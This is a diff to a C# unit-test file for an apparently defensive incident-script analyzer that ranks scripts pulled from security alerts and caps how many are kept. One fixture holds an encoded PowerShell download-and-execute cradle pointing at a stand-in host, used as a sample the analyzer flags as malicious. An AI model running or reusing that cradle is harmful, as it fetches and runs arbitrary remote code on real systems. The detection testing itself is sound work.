@@ -57,11 +57,19 @@ public sealed class ScriptsSectionTests
     [Fact]
     public void Each_text_is_analyzed_once_and_the_worst_comes_first()
     {
-        var scripts = IncidentScripts.Of(Story("ipconfig /all", Encoded("iex (New-Object Net.WebClient).DownloadString('http://drop.example.test/a.ps1')"), "notepad.exe"), TestContext.Current.CancellationToken);
+        var scripts = IncidentScripts.Of(Story("ipconfig /all", Encoded("iex (New-Object Net.WebClient).DownloadString('http://drop.example.test/a.ps1')"), "notepad.exe"), TestContext.Current.CancellationToken).Items;
         scripts.Select(script => script.Text[..5]).ShouldBe(["power", "ipcon"]);
         scripts[0].AlertIds.ShouldBe(["a1", "a2"]);
         scripts[0].Device.ShouldBe("ws-07");
         scripts[0].Report.Verdict.Label.ShouldBeOneOf(VerdictLabel.Malicious, VerdictLabel.Suspicious);
+    }
+
+    [Fact]
+    public void Scripts_that_are_too_many_are_counted()
+    {
+        var scripts = IncidentScripts.Of(Story([.. Enumerable.Range(0, IncidentScripts.Most + 5).Select(i => $"ping -n {i} 10.0.0.1")]), TestContext.Current.CancellationToken);
+        scripts.Items.Count.ShouldBe(IncidentScripts.Most);
+        scripts.LeftOut.ShouldBe(5);
     }
 
     [Fact]
